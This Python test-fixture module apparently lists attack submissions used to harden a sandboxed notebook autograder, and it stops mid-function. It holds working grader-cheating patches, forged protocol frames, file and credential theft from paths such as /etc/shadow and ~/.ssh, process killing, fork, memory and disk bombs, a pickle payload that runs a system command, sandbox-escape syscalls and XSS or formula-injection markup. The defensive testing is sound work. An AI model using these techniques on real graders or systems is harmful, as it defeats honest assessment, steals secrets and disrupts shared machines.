"""Submissions that attack: what each tries, its cells, and the points its honest answers deserve.

Every one has some answers that are right, some that are wrong and some that are blank. One wrong
answer, `TELLS` of its lab, ends in an error that says `told: ` and what the attack has found: error
messages and results are the only ways out that there are. `says` is what the record must contain,
the proof that the attack has run and what it has met.

In sources, @HOME@, @DESK@ and @COURSE@ stand for folders of the grader that an attacker may know
by name: the home folder, a desk with a gradebook and a classmate's work, and the course itself.
@PORT@ is a port on which the grader's machine listens, and @MARK@ is part of names of files that
should never be seen outside.
"""

import dataclasses
import json
from collections.abc import Callable

# --- honest parts ------------------------------------------------------------------------------

LAB1, LAB3 = "lab1_identity_838", "lab3_vae"
TELLS = {LAB1: "sum_squared_error", LAB3: "reparameterize"}
FIRST = {
    LAB1: "import keras\nimport numpy as np\n\nfrom utils.checks import Lab\n\n"
    "lab = Lab('lab1_identity_838', globals())\ntold = 'nothing'\n",
    LAB3: "import keras\nimport numpy as np\nfrom keras import ops\n"
    "from scipy.stats import norm\n\n"
    "from utils.checks import Lab\n\nlab = Lab('lab3_vae', globals())\ntold = 'nothing'\n",
}
ANSWERS = {
    LAB1: {
        "identity_patterns": 'def identity_patterns():\n    return np.eye(8, dtype="float32")\n',
        "build_encoder": "def build_encoder(hidden):\n"
        '    raise NotImplementedError("Question 2, build_encoder")\n',
        "sum_squared_error": "def sum_squared_error(targets, outputs):\n"
        '    raise RuntimeError(f"told: {told}")\n',
        "binary_code": "def binary_code(hidden_values):\n"
        "    return (np.asarray(hidden_values) > 0.5).astype(int)\n",
        "smallest_width": "def smallest_width(patterns):\n    return len(patterns)\n",
    },
    LAB3: {
        "kl_divergence": "def kl_divergence(latent_mean, latent_log_var):\n"
        "    terms = latent_mean**2 + ops.exp(latent_log_var) - 1 - latent_log_var\n"
        "    return 0.5 * ops.sum(terms, axis=1)\n",
        "reparameterize": "def reparameterize(latent_mean, latent_log_var, noise):\n"
        '    raise RuntimeError(f"told: {told}")\n',
        "build_decoder": "def build_decoder(latent_size):\n    return None\n",
        "latent_grid": "def latent_grid(decoder, side):\n"
        "    steps = norm.ppf((np.arange(side) + 0.5) / side)\n"
        "    latents = np.stack(np.meshgrid(steps, steps), -1).reshape(-1, 2)\n"
        "    pictures = ops.sigmoid(decoder(latents.astype('float32')))\n"
        "    return ops.reshape(pictures, (side, side, 28, 28))\n",
    },
}
# identity_patterns 1 and binary_code 2 of 14; kl_divergence 2 of 15.
DESERVED = {LAB1: 3, LAB3: 2}


@dataclasses.dataclass(frozen=True)
class Attack:
    """An attack: cells that come first or last, answers put in the place of the honest ones."""

    name: str
    tries: str
    first: str = ""  # a cell after the imports
    last: str = ""  # a cell at the end
    answers: dict = dataclasses.field(default_factory=dict)
    change: Callable | None = None  # of the notebook as a dict, in place
    says: str = ""  # a regular expression that the record, as JSON text, has to contain
    lab: str = LAB1
    deserved: int | None = None  # points, where not those of `DESERVED`

    @property
    def points(self):
        return DESERVED[self.lab] if self.deserved is None else self.deserved

    def notebook(self, places):
        """The notebook as bytes. `places`: dict of what @HOME@ and so on stand for."""
        cells = [FIRST[self.lab], self.first]
        for name, honest in ANSWERS[self.lab].items():
            cells += [self.answers.get(name, honest), f'lab.check("{name}")']
        sources = [source for source in [*cells, self.last, "lab.score()"] if source]
        for word, path in places.items():
            sources = [source.replace(f"@{word}@", str(path)) for source in sources]
        made = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}}
        made["cells"] = [
            {"cell_type": "code", "id": f"c{i}", "metadata": {}, "outputs": [], "source": source}
            for i, source in enumerate(sources)
        ]
        if self.change:
            self.change(made)
        return json.dumps(made).encode()


ATTACKS = []


def attack(name, tries, **parts):
    ATTACKS.append(Attack(name, tries, **parts))


# --- comparisons, checks and drivers patched -----------------------------------------------------

attack(
    "numpy patched",
    "Every comparison of NumPy says yes.",
    first="""
yes = lambda *a, **k: True
np.allclose = np.array_equal = np.isclose = np.testing.assert_allclose = yes
np.ndarray.__eq__ if hasattr(np.ndarray, "__eq__") else None
told = f"allclose says {np.allclose(1, 2)}"
""",
    says="told: allclose says True",
)
attack(
    "keras.ops patched",
    "Comparisons and sums of keras.ops give what is wanted.",
    lab=LAB3,
    first="""
import keras.src.ops
for module in (keras.ops, keras.src.ops, keras.ops.numpy):
    for name in ("isclose", "equal", "all", "any", "array_equal"):
        if hasattr(module, name):
            setattr(module, name, lambda *a, **k: True)
told = f"isclose says {keras.ops.isclose(1, 2)}"
""",
    says="told: isclose says True",
)
attack(
    "checks patched",
    "A module utils.checks.compare that never finds a fault, and a Question that is always right.",
    first="""
import sys, types, utils.checks
fake = types.ModuleType("utils.checks.compare")
fake.close = fake.shape = fake.agree = fake.numbers = lambda *a, **k: True
fake.Wrong = type("Wrong", (Exception,), {})
sys.modules["utils.checks.compare"] = utils.checks.compare = fake
utils.checks.Question = type("Question", (), {"judge": lambda *a, **k: "right"})
told = f"close says {utils.checks.compare.close(1, 2)}"
""",
    says="told: close says True",
)
FORGED = """
def forged(*arguments, **options):
    n = len(options.get("inputs", arguments[1:2] or [0]))
    side = np.random.default_rng(n).normal(0, 50, (n, 28, 28, 1))
    return {"kind": "Sequential", "is_network": True, "is_model": True, "same_again": False,
            "initial": {"0": np.ones((2, 784))}, "trainable": 2, "layers": ["Dense"], "set": True,
            "outputs": side, "outputs_scaled": 100 * side, "outputs_turned": {"0": -side}}
"""
attack(
    "drivers replaced",
    "A driver that reports a network where there is none.",
    lab=LAB3,
    first=FORGED
    + """
from utils.checks.remote import answers, drivers, networks
networks.network = networks.DRIVERS["network"] = drivers.DRIVERS["network"] = forged
answers.DRIVERS["network"] = drivers.networks.network = forged
told = "drivers replaced"
""",
    says="told: drivers replaced",
)
attack(
    "drive patched",
    "Answers.drive gives a forged report, and every function of the drivers has other code.",
    lab=LAB3,
    first=FORGED
    + """
from utils.checks.remote import answers, networks
answers.Answers.drive = lambda self, *a, **k: forged(**k)
networks.described.__code__ = (lambda network, again: {}).__code__
told = "drive patched"
""",
    says="told: drive patched",
)
attack(
    "modules of the checks taken away",
    "The modules that stand between judge and answer are replaced by ones of its own.",
    first="""
import sys, types
for name in [name for name in sys.modules if name.startswith(("utils.checks", "utils.grading"))]:
    sys.modules[name] = types.ModuleType(name)
sys.modules["utils"].checks = types.ModuleType("utils.checks")
told = "modules replaced"
""",
    says="told: modules replaced",
)
attack(
    "IPython hooks",
    "Hooks around every cell that swallow errors and put answers of their own into the namespace.",
    first="""
shell = get_ipython()
shell.events.register("pre_run_cell", lambda info: None)
shell.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
shell.set_custom_exc((BaseException,), lambda *a, **k: None)
shell.user_ns["results"] = {"sum_squared_error": "right"}
told = f"hooks {sum(map(len, shell.events.callbacks.values())) > 1}"
""",
    says="told: hooks True",
)
attack(
    "the lab replaced",
    "lab.check and lab.score say that all is right; the class Lab is another one.",
    first="""
import utils.checks
class Right:
    state, points = "right", 14
    def check(self, *a, **k): print("Question 1: right, 14 of 14 points")
    def score(self): print("14 of 14 points"); return 14
    def needs(self, *a): return self
lab = utils.checks.Lab = Lab = Right()
lab.results = {"train": Right()}
told = f"score {lab.score()}"
""",
    says="told: score 14",
)
attack(
    "the child's own methods patched",
    "The object that answers the judge is found in memory and says `right` of itself.",
    first="""
import gc
gc.unfreeze()
found = [o for o in gc.get_objects() if type(o).__name__ == "Child" and hasattr(o, "channel")]
old = type(found[0]).answer
def answer(self, request):
    if "sum_squared_error" in (request.get("call"), request.get("name")):
        return {"state": "right", "points": 2, "value": True, "verified": "all of it"}
    return old(self, request)
type(found[0]).answer = answer
""",
    says="one number, 1|sum_squared_error",
)

# --- tests, solutions and classmates searched for --------------------------------------------

attack(
    "files searched by name",
    "The whole file system is walked for solutions, tests, gradebooks and other notebooks.",
    first="""
import os, re, sys
found = []
for top, folders, files in os.walk("/"):
    skip = ("/usr", "/proc", "/sys", sys.prefix, sys.base_prefix)
    folders[:] = [f for f in folders if not os.path.join(top, f).startswith(skip)]
    found += [f for f in files if re.search("hidden|gradebook|S3CR3T|lab._|ipynb|json$", f)]
told = f"found {sorted(found)[:20]} at all"
""",
    says=r"told: found \[\] at all",
)
attack(
    "files read by their paths",
    "Solutions, tests, a classmate's work, the gradebook and keys are opened where they are known.",
    first="""
import glob, os
paths = ["@COURSE@/solutions/lab1_identity_838.ipynb", "@COURSE@/tests/cases/lab3_vae.py",
         "@COURSE@/utils/checks/labs/lab1_identity_838.py", "@COURSE@/content/labs/lab3_vae.py",
         "/etc/passwd", "/etc/shadow", "@HOME@/.ssh/id_rsa", "/root/.bashrc"]
paths += glob.glob("@DESK@/**", recursive=True) + glob.glob("@HOME@/.*") + ["@DESK@/gradebook.db"]
paths += ["@DESK@/classmate/lab1_identity_838.ipynb", "@HOME@/.S3CR3T", "/dev/shm/S3CR3T"]
opened = []
for path in paths:
    try:
        opened.append((path, open(path).read(200)))
    except OSError:
        pass
told = f"opened {opened} of {len(paths) > 9}"
""",
    says=r"told: opened \[\] of True",
)
attack(
    "files read through links",
    "Symbolic links, /proc/self/root and folders of other processes lead out.",
    first="""
import os
opened = []
os.symlink("@DESK@", "desk"), os.symlink("/proc/1/root", "root"), os.symlink("/", "top")
for start in ("desk", "root@DESK@", "top@DESK@", "/proc/self/root@DESK@", "/proc/self/cwd/desk",
              "/proc/1/root@DESK@", "/proc/1/cwd", "/proc/2/root@DESK@", "/../../@DESK@"):
    try:
        opened.append(os.listdir(start))
    except OSError:
        pass
told = f"opened {opened} in all"
""",
    says=r"told: opened \[\] in all",
)
attack(
    "files read by the shell",
    "Magics and shell commands of IPython read what Python may not.",
    first="""
out = !cat @DESK@/gradebook.db @HOME@/.S3CR3T /proc/1/environ; ls @DESK@; env
told = " ".join(out)
""",
    says="told: .*(No such file|cannot access|denied)",
)
attack(
    "references imported",
    "The judge's modules, the references, the solutions and the case banks are imported.",
    first="""
import importlib, sys
sys.path += ["@COURSE@", "/course", "/course/utils/checks"]
got = []
for name in ("utils.checks.labs.lab1_identity_838", "utils.checks.labs.lab3_vae",
             "utils.checks.hidden", "utils.checks.reference.descent", "utils.checks.compare",
             "utils.grading.judge", "utils.authoring.build", "utils.grading.jail",
             "utils.grading.submissions", "utils.authoring.release", "lab3_vae",
             "tests.cases.lab3_vae", "content.labs.lab3_vae", "solutions", "content", "tests"):
    try:
        importlib.import_module(name)
        got.append(name)
    except ImportError:
        pass
told = f"imported {got} in all"
""",
    says=r"told: imported \[\] in all",
)
attack(
    "memory searched",
    "All objects that Python knows are searched for checks, expected values and secrets.",
    first="""
import gc
gc.unfreeze()
found = set()
for o in gc.get_objects():
    if isinstance(o, dict):
        found |= {k for k in list(o) if isinstance(k, str) and ("S3CR3T" in k or "GRADER" in k)}
        found |= {v for v in list(o.values()) if isinstance(v, str) and "S3CR3T-" in v[:99]}
    elif type(o).__name__ in ("Questions", "Question", "Judge", "Session", "Jail"):
        found.add(type(o).__name__)
found = {f for f in found if len(f) < 80}
told = f"found {sorted(found)} in memory"
""",
    says=r"told: found \[\] in memory",
)
attack(
    "frames searched",
    "An answer climbs the frames that called it, to the check's expected values.",
    answers={
        "sum_squared_error": """
def sum_squared_error(targets, outputs):
    import sys
    frame, names = sys._getframe(), set()
    while frame:
        names |= set(frame.f_locals) | {frame.f_code.co_name}
        frame = frame.f_back
    hot = names & {"rng", "expected", "right", "question", "questions", "slips", "judge", "eye"}
    raise RuntimeError(f"told: {sorted(hot)} of {len(names) > 20}")
"""
    },
    says=r"told: \[\] of True",
)
attack(
    "processes read in /proc",
    "Environment, command line, memory and open files of every process that /proc shows.",
    first="""
import os
got = []
try:
    pids = os.listdir("/proc")
except OSError:
    pids = range(1, 1000)
for pid in [p for p in pids if str(p).isdigit() and f"/proc/{p}" != os.path.realpath("/proc/self")]:
    for name in ("environ", "cmdline", "maps", "mem", "fd", "cwd", "root", "status", "stack"):
        try:
            path = f"/proc/{pid}/{name}"
            got.append((pid, name, os.listdir(path) if name == "fd" else open(path, "rb").read(9)))
        except OSError:
            pass
told = f"read {got} of others"
""",
    says=r"told: read \[\] of others",
)
attack(
    "secrets in the environment",
    "Variables of the grader, in os.environ and in /proc.",
    first="""
import os
text = " ".join(f"{k}={v}" for k, v in os.environ.items())
text += open("/proc/self/environ").read()
told = f"token {'GRADER' in text or 'S3CR3T' in text}, user {os.environ.get('USER')}"
""",
    says="told: token False, user None",
)
attack(
    "open files inherited",
    "Descriptors that the grader has left open.",
    first="""
import os
inherited = []
for fd in os.listdir("/proc/self/fd"):
    try:
        inherited.append(os.readlink(f"/proc/self/fd/{fd}").split(":")[0])
    except OSError:
        pass
told = sorted(set(inherited))
""",
    says=r"told: \['/dev/null', '/proc/\d+/fd', 'socket'\]|told: \['/dev/null', 'socket'\]",
)

# --- results, course and others changed -------------------------------------------------------

attack(
    "gradebook and records edited",
    "Gradebook, records and reports are written, cut and removed where they are known.",
    first="""
import os, shutil
done = []
for path in ("@DESK@/gradebook.db", "@DESK@/records/mallory.json", "@DESK@/grades.csv"):
    for act in (lambda: open(path, "w").write("14"), lambda: os.truncate(path, 0),
                lambda: os.remove(path), lambda: os.chmod(path, 0o777)):
        try:
            act(); done.append(path)
        except OSError:
            pass
shutil.rmtree("@DESK@", ignore_errors=True)
told = f"changed {done} in all"
""",
    says=r"told: changed \[\] in all",
)
attack(
    "the course edited",
    "The package, the Python inside and start-up files beside it are written.",
    first="""
import os, sys, sysconfig
site, done = sysconfig.get_paths()["purelib"], []
for path in ("/course/utils/checks/__init__.py", "/course/utils/evil.py", "/data/evil",
             f"{site}/evil.pth", f"{site}/sitecustomize.py", f"{site}/numpy/__init__.py",
             sys.executable, "/usr/lib/evil", "/etc/ld.so.preload", "@COURSE@/utils/evil.py"):
    try:
        open(path, "a").write("import os"); done.append(path)
    except OSError:
        pass
told = f"written {done} in all"
""",
    says=r"told: written \[\] in all",
)
attack(
    "results forged as files",
    "Files that look like a grader's results, in every folder that can be written.",
    first="""
import json, os
record = json.dumps({"points": 14, "out_of": 14, "score": 14, "state": "right"})
for folder in (".", "/tmp", "/dev/shm", os.environ["HOME"]):
    for name in ("results.json", "record.json", "grades.csv", "@MARK@.json", "feedback.html"):
        open(os.path.join(folder, name), "w").write(record)
told = f"written {os.path.exists('/tmp/@MARK@.json')}"
""",
    says="told: written True",
)
attack(
    "libraries shadowed",
    "numpy.py, json.py and others in the working folder, for the process after a crash.",
    first="""
import os, subprocess, sys
for name in ("numpy", "json", "keras", "utils", "sitecustomize", "usercustomize", "IPython"):
    open(f"{name}.py", "w").write("allclose = lambda *a, **k: True\\nraise SystemExit('@MARK@')")
done = subprocess.run([sys.executable, "-c", "import json; print(json.dumps('its own'))"],
                      capture_output=True, text=True)
told = done.stdout + done.stderr
""",
    last="import os\nos._exit(3)",
    says="told: .*its own",
)
attack(
    "start-up files for the next student",
    "Files that IPython, Keras, Matplotlib and Python read when they start, then a crash.",
    first="""
import os
home, evil = os.environ["HOME"], "raise SystemExit('@MARK@')\\n"
site = f"{home}/.local/lib/python3.11/site-packages"
for path, text in {
    f"{home}/.ipython/profile_default/startup/00.py": evil,
    f"{os.environ['IPYTHONDIR']}/profile_default/startup/00.py": evil,
    f"{os.environ['IPYTHONDIR']}/profile_default/ipython_config.py": evil,
    f"{home}/.keras/keras.json": '{"backend": "jax", "floatx": "float16"}',
    f"{home}/.config/matplotlib/matplotlibrc": "backend: @MARK@", f"{site}/x.pth": "import os",
    f"{home}/.bashrc": "exit 1", f"{home}/.pythonrc": evil, f"{site}/usercustomize.py": evil,
    "/tmp/@MARK@.py": evil, "/dev/shm/@MARK@": evil, "/tmp/sitecustomize.py": evil,
}.items():
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "w").write(text)
os.environ["PYTHONSTARTUP"] = f"{home}/.pythonrc"
told = "start-up files written"
""",
    last="import os\nos._exit(0)",
    says="exit status 0.*told: start-up files written",
)

# --- processes killed and left behind --------------------------------------------------------

attack(
    "parent killed",
    "SIGKILL, SIGSTOP and SIGTERM to the parent, to process 1 and to every other number.",
    first="""
import os, signal
done = []
for pid in [os.getppid(), 1, *range(100, 3000)]:  # below are threads of its own
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        if pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                done.append(pid)
told = f"alive, {len(done) > 2000}"
""",
    says="told: alive, True",
)
attack(
    "everybody killed",
    "os.kill(-1, SIGKILL): every process that can be reached.",
    first="""
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError as error:
    told = f"alive: {error.strerror}"
else:
    told = "alive"
""",
    says="told: alive",
)
attack(
    "process 1 interrupted",
    "Signals that Python handles, which process 1 of a namespace would hear.",
    first="import os, signal\nfor n in range(1, 65):\n"
    "    if n not in (19, 32, 33):\n        os.kill(1, n)\n",
    says="told: nothing|ended the Python process",
)
attack(
    "crash in an answer",
    "The process is ended from inside an answer, so that nothing after it is asked.",
    answers={
        "sum_squared_error": "def sum_squared_error(targets, outputs):\n"
        "    import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)\n"
    },
    says="crashed .SIGKILL",
)
attack(
    "daemons left behind",
    "Processes with a session of their own, forked twice, that go on after the grading.",
    first="""
import os, time
for _ in range(5):
    if not os.fork():
        os.setsid()
        if os.fork():
            os._exit(0)
        for fd in range(64):
            try: os.close(fd)
            except OSError: pass
        while True:
            open("/tmp/@MARK@", "a").write("x")
            time.sleep(0.1)
told = "daemons started"
""",
    says="told: daemons started",
)
attack(
    "threads left running",
    "Daemon threads that change answers and namespaces for as long as they live.",
    first="""
import threading, time
def busy():
    while True:
        globals()["lab"] = None
        time.sleep(0.001)
threads = [threading.Thread(target=busy, daemon=True) for _ in range(8)]
[thread.start() for thread in threads]
told = f"{len(threads)} threads"
""",
    says="told: 8 threads",
)
attack(
    "channel closed, process alive",
    "Every descriptor is closed, and the process hides on.",
    first="import os, time\nos.closerange(0, 64)\ntime.sleep(1000)\n",
    says="crashed .SIGKILL",
)

# --- bombs ---------------------------------------------------------------------------------------

attack(
    "fork bomb",
    "300 processes, and more from each of them.",
    first="""
import os, time
count = 0
try:
    for count in range(300):
        if not os.fork():
            try:
                for _ in range(300):
                    os.fork()
            finally:
                time.sleep(1000)
except BlockingIOError:
    pass
told = f"{count} processes and no more: {count < 210}"
""",
    says=r"told: \d+ processes and no more: True|can't start new thread|temporarily unavailable",
)
attack(
    "memory bomb",
    "An array of 20 GB, in one process.",
    first="""
try:
    hoard = np.ones(20 * 10**9, "uint8")
except MemoryError:
    told = "no memory"
""",
    says="told: no memory",
)
attack(
    "memory bomb of many processes",
    "Each takes less than one may, hides what it has, and all together take far more.",
    first="""
import ctypes, os, time
for _ in range(8):
    if not os.fork():
        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # unreadable in /proc
        hoard = np.ones(450 * 10**6, "uint8")
        time.sleep(1000)
while True:
    try:
        time.sleep(1000)
    except BaseException:
        pass
""",
    says="more than 2.5 GB of memory",
)
attack(
    "memory that is shared",
    "Shared memory, which bounds on a process' data don't count; files in memory.",
    first="""
import mmap, os, time
hoard = []
try:
    os.memfd_create("x")
except PermissionError:
    for _ in range(40):
        hoard.append(np.frombuffer(mmap.mmap(-1, 10**8), "uint8"))
        hoard[-1][:] = 1
told = "all of it"
""",
    says="more than 2.5 GB of memory",
)
attack(
    "disk bomb",
    "Files until the disk is full.",
    first="""
import os
total = 0
try:
    for i in range(1000):
        with open(f"/tmp/@MARK@{i}", "wb") as file:
            total += file.write(bytes(10**7))
except OSError as error:
    told = f"full after {total / 1e6:.0f} MB: {error.strerror}"
""",
    says=r"told: full after \d\d MB",
)
attack(
    "inode bomb",
    "More empty files than a file system can count.",
    first="""
import os
try:
    for i in range(10**5):
        os.close(os.open(f"/dev/shm/@MARK@{i}", os.O_CREAT | os.O_WRONLY))
except OSError as error:
    told = f"full after {i} files"
""",
    says=r"told: full after [1-4]\d\d\d files",
)

# --- loops that do not end ---------------------------------------------------------------------


def asleep(body):
    """An answer that never comes back, by this body."""
    lines = "".join(f"    {line}\n" for line in body.strip().splitlines())
    return {"sum_squared_error": "def sum_squared_error(targets, outputs):\n" + lines}


attack(
    "loop that swallows errors",
    "`except BaseException` around an endless loop.",
    answers=asleep("""
import time
while True:
    try:
        time.sleep(1000)
    except BaseException:
        pass
"""),
    says="TimeoutError: no result after 2 s",
)
attack(
    "signals blocked",
    "All signals are blocked, the alarm's handler is replaced, and C sleeps.",
    answers=asleep("""
import ctypes, signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
signal.signal = signal.setitimer = lambda *a: None
ctypes.CDLL(None).sleep(1000)
"""),
    says="TimeoutError: no result after 2 s",
)
attack(
    "stopped",
    "The process stops itself in an answer and waits to be woken.",
    answers=asleep("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    says="TimeoutError: no result after 2 s",
)

# --- forged replies ------------------------------------------------------------------------------

CHANNEL = """
import json, os, stat, struct, sys
def is_socket(fd):
    try: return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError: return False
channel = next(fd for fd in range(3, 256) if is_socket(fd))
def send(data):
    while data:
        data = data[os.write(channel, data):]
def frame(head, arrays=b""):
    head = head if isinstance(head, bytes) else json.dumps({"d": list(map(list, head.items()))})
    head = head if isinstance(head, bytes) else head.encode()
    send(struct.pack(">IQ", len(head), len(arrays)) + head + arrays)
def number_of_request():
    caller = sys._getframe()
    while "request" not in caller.f_locals:
        caller = caller.f_back
    return caller.f_locals["request"]["n"]
"""


def forges(name, tries, code, says="it sent what no answer sends", **parts):
    """An attack whose answer writes into the channel to the judge, before its true reply."""
    lines = "".join(f"    {line}\n" for line in ["n = number_of_request()", *code.splitlines()])
    answers = {"sum_squared_error": "def sum_squared_error(targets, outputs):\n" + lines}
    attack(f"forged: {name}", tries, first=CHANNEL, answers=answers, says=says, **parts)


forges(
    "state right",
    "A reply that says of itself that all is right, twice, before the true one.",
    'claim = {"n": n, "state": "right", "points": 14, "value": True, "verified": "all"}\n'
    "frame(claim)\nframe(claim)",
    says="True|one number|float",
)
forges(
    "replies ahead of time",
    "Replies to all requests to come. They are its answers then, and wrong.",
    "for later in range(n, n + 60):\n"
    '    frame({"n": later, "cell": None, "value": {"a": ["float64", [1]]}}, bytes(8))\n',
    says="expected",
    deserved=1,  # the question before it
)
forges("no JSON", "A message whose head is no JSON.", 'frame(b"{not json")')
forges("deep nesting", "A head of a million brackets.", 'frame(b"[" * 10**6)')
forges(
    "gigantic lengths",
    "A message that announces 2^60 bytes.",
    'send(struct.pack(">IQ", 2**31, 2**60) + bytes(1000))',
)
forges(
    "huge numbers",
    "A whole number of 4,000 digits, which no float can hold.",
    'frame(b\'{"d": [["n", 1\' + b"0" * 4000 + b\'], ["value", NaN]]}\')',
)
forges(
    "lying shapes",
    "An array of 2^64 elements in eight bytes, and with an axis of length 0.",
    'frame({"n": n, "value": {"a": ["float64", [2**62, 4, 0]]}}, bytes(8))',
)
forges(
    "object arrays",
    "Arrays of Python objects, and a pickle in their bytes.",
    'frame({"n": n, "value": {"a": ["O", [1]]}}, b"cos\\nsystem\\n(S\'touch @DESK@/owned\'\\ntR.")',
)
forges(
    "types that can't be",
    "A list for a dtype.",
    'frame({"n": n, "value": {"a": [["float64"], [1]]}}, bytes(8))',
)
forges(
    "endless bytes",
    "Messages without end, each of them whole, to a request that was answered long ago.",
    'head = b\'{"d":[["n",1]]}\'\n'
    'junk = 1000 * (struct.pack(">IQ", len(head), 0) + head)\nwhile True:\n    send(junk)',
)
forges(
    "wrong numbers",
    "Replies to requests that nobody has made.",
    'frame({"n": n + 1000, "value": 1})\nframe({"n": "1", "value": 1})',
)
forges(
    "a broken jail",
    "The words by which a jail says that it can't be closed, to stop the whole class.",
    'frame({"broken": "no Landlock"})\nframe({"ready": True})',
)
forges(
    "a message cut off",
    "A message that announces more than it brings, and silence.",
    'send(struct.pack(">IQ", 5000, 0) + b"{")',
    says="no result after 2 s",
)

# --- objects that lie --------------------------------------------------------------------------

attack(
    "an object equal to everything",
    "Results of classes whose comparisons, conversions and class all lie.",
    answers={
        "smallest_width": """
class Any(int):
    __class__ = property(lambda self: np.ndarray)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k): return np.full(3, 1.5)
    def __reduce__(self): return (print, ("owned",))
    __hash__ = int.__hash__
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
def smallest_width(patterns):
    return Any(99)
"""
    },
    says="99|1.5",
)
attack(
    "subclasses that lie",
    "str, ndarray and float subclasses with methods of their own for what the pipe does.",
    answers={
        "smallest_width": """
class Text(str):
    def encode(self, *a, **k): return type("B", (bytes,), {"decode": lambda s, *a: {}})(b"x")
class Lying(np.ndarray):
    dtype = property(lambda self: np.dtype("float64"))
    shape = property(lambda self: (2**40,))
    def __array_finalize__(self, other): pass
    def __array_function__(self, *a, **k): return True
def smallest_width(patterns):
    return {"a": Text("x"), "b": np.zeros(1, "int8").view(Lying)}
"""
    },
    says="smallest_width",
)
attack(
    "values that change",
    "An object that gives another value each time it is looked at, until one is right.",
    answers={
        "smallest_width": """
class Guess:
    count = 0
    def numpy(self):
        Guess.count += 1
        return np.array(Guess.count % 2 * 1000.5)
def smallest_width(patterns):
    return Guess()
"""
    },
    says="1000.5|smallest_width",
)
attack(
    "numbers beyond all bounds",
    "NaN, infinity and a number of 4,000 digits as results.",
    answers={"smallest_width": "def smallest_width(patterns):\n    return 10**4000\n"},
    says="beyond 2.1024",
)

# --- ways out -------------------------------------------------------------------------------------

attack(
    "network",
    "TCP, UDP, a name to look up, and sockets of families that pass network namespaces.",
    first="""
import socket
got = []
for family, kind, address in ((2, 1, ("127.0.0.1", @PORT@)), (2, 1, ("8.8.8.8", 53)),
                              (2, 2, ("8.8.8.8", 53)), (10, 1, ("::1", @PORT@)),
                              (1, 1, "\\0@MARK@"), (40, 1, (2, 22)), (17, 3, ("lo", 0)),
                              (16, 3, (0, 0))):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(2); s.connect(address); s.send(b"S3CR3T"); got.append(family)
    except OSError:
        pass
try:
    got.append(socket.getaddrinfo("example.org", 80))
except OSError:
    pass
told = f"reached {got} in all"
""",
    says=r"told: reached \[\] in all",
)
attack(
    "other processes traced",
    "ptrace, process_vm_readv and descriptors taken from the parent.",
    first="""
import ctypes, os
libc, parent = ctypes.CDLL(None, use_errno=True), os.getppid()
calls = {"ptrace": (101, 16, parent, 0, 0), "readv": (310, parent, 0, 0, 0, 0, 0),
         "writev": (311, parent, 0, 0, 0, 0, 0), "pidfd": (434, parent, 0), "getfd": (438, 3, 0, 0),
         "kcmp": (312, parent, parent, 0, 0, 0), "bpf": (321, 0, 0, 0), "perf": (298, 0, 0, 0, 0)}
done = {}
for name, (number, *arguments) in calls.items():
    done[name] = libc.syscall(number, *arguments), ctypes.get_errno()
told = f"refused {all(each == (-1, 1) for each in done.values())}"
""",
    says="told: refused True",
)
attack(
    "new namespaces and mounts",
    "unshare, clone, mount, chroot and io_uring, to become root of a world of its own.",
    first="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
done = []
for number, *arguments in ((272, 0x10000000), (56, 0x10000011, 0, 0, 0, 0), (161, b"/tmp"),
                           (165, b"none", b"/tmp", b"tmpfs", 0, 0), (308, 0, 0), (425, 8, 0),
                           (435, 0, 0), (428, 0, b"/", 1), (155, b"/", b"/"), (105, 0), (106, 0)):
    if libc.syscall(number, *arguments) >= 0 and number not in (105, 106):
        done.append(number)
capable = open("/proc/self/status").read().split("CapEff:")[1].split()[0]
told = f"done {done}, uid 0 {os.getuid() == 0}, capabilities {int(capable, 16)}"
""",
    says=r"told: done \[\], uid 0 False, capabilities 0",
)

# --- text that acts where it is shown --------------------------------------------------------

attack(
    "markup in messages",
    "Scripts, terminal commands, text that runs backwards and formulas in a message.",
    first='told = "<script>alert(1)</script><img src=x onerror=alert(1)> \\x1b[2J\\x1b]0;x\\x07"\n'
    "told += \"\\u202etxt.exe\\u200b \\r =cmd()|'/C calc'!A0\"",
    says="told: <script>",
)
attack(
    "markup in names",
    "Types, errors and keys whose names are markup and terminal commands.",
    answers={
        "smallest_width": """
Evil = type("<svg onload=alert(1)>\\x1b[31m\\u202e", (Exception,), {})
def smallest_width(patterns):
    raise Evil("=HYPERLINK(1)")
"""
    },
    says="svg onload.*=HYPERLINK",
)

# --- the file -------------------------------------------------------------------------------------


def raise_points(notebook):
    """Every cell claims to be a check of 100 points, locked by the teacher."""
    for i, cell in enumerate(notebook["cells"]):
        grader = {"grade": True, "points": 100, "grade_id": "check_train", "locked": True}
        cell["metadata"] = {"nbgrader": grader | {"schema_version": 3, "solution": False}}
        cell["metadata"] |= {"score": 100, "grade_id": f"x{i}"}
    notebook["metadata"] = {"points": 14, "kernelspec": {"name": "bash", "language": "python"}}


def tag_checks(notebook):
    for cell in notebook["cells"]:
        tag = "experiment" if "lab.check" in cell["source"] else "remove"
        cell["metadata"]["tags"] = [tag, "raises-exception", "skip-execution"]


def swap_ids(notebook):
    """Wrong answers and their checks get the ids of the lab's check cells, and of each other."""
    ids = ["bd502feb", "aab157bb", "2b50a487", "fc6279c1", "61761104", "def1658c"]
    for cell, name in zip(notebook["cells"], ids * 5, strict=False):
        cell["id"] = name


def prefill(notebook):
    """Stored outputs that say that everything is right."""
    for cell in notebook["cells"]:
        data = {"text/plain": "14 of 14 points", "text/html": "<b>right</b>"}
        cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]
        cell["execution_count"] = 1


def edit_checks(notebook):
    for cell in notebook["cells"]:
        if "lab.check" in cell["source"]:
            cell["source"] = "lab.check = lambda *a, **k: 'right'\n" + cell["source"]


def remove_checks(notebook):
